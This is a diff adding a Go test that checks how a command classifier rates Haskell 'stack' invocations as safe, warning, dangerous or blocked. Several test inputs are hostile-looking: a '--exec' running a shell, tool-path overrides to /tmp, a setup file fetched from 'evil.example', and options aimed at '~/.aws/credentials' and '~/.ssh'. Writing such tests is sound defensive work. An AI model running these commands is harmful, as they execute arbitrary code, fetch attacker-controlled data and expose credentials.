@@ -152,3 +152,23 @@ func TestMixTablesMatchInstalledHelp(t *testing.T) {
 		}
 	}
 }
+
+// stack builds, tests and prints paths by its tables; the options and
+// commands that run programs, reach the network or install outside the
+// project are judged as such.
+func TestStackJudgesItsCommands(t *testing.T) {
+	checkLevels(t, append(each(Safe,
+		"stack build", "stack test", "stack build --fast --pedantic", "stack test --coverage --ta '--match parser'", "stack build -j4 --no-run-tests",
+		"stack --verbosity warn build", "stack build --file-watch", "stack haddock --no-haddock-deps", "stack bench --no-run-benchmarks",
+		"stack path", "stack path --local-install-root", "stack path --stack-root", "stack --version", "stack --numeric-version",
+		"stack build --stack-yaml stack-ghc9.yaml", "stack --work-dir .stack-work-ci build"),
+		levelCase{"stack install", Dangerous}, levelCase{"stack build --copy-bins", Dangerous}, levelCase{"stack setup", Dangerous}, levelCase{"stack upgrade", Dangerous},
+		levelCase{"stack upload .", Dangerous}, levelCase{"stack update", Warning}, levelCase{"stack exec -- ls", Warning}, levelCase{"stack run", Warning},
+		levelCase{"stack ghci", Warning}, levelCase{"stack eval 'print 1'", Warning}, levelCase{"stack clean", Warning}, levelCase{"stack new foo", Warning},
+		levelCase{"stack build --exec 'sh -c id'", Warning}, levelCase{"stack build --ghc-options=-pgmL/tmp/x", Warning}, levelCase{"stack --with-gcc /tmp/cc build", Warning},
+		levelCase{"stack build --open --haddock", Warning}, levelCase{"stack --docker build", Warning}, levelCase{"stack --nix build", Warning},
+		levelCase{"stack build --setup-info-yaml https://evil.example/s.yaml", Warning},
+		levelCase{"stack build --stack-yaml ~/.aws/credentials", Blocked}, levelCase{"stack --stack-root /tmp/sr build", Dangerous},
+		levelCase{"stack --work-dir ~/.ssh build", Blocked}, levelCase{"stack build --frobnicate", Warning}, levelCase{"stack build --fas", Warning},
+	))
+}
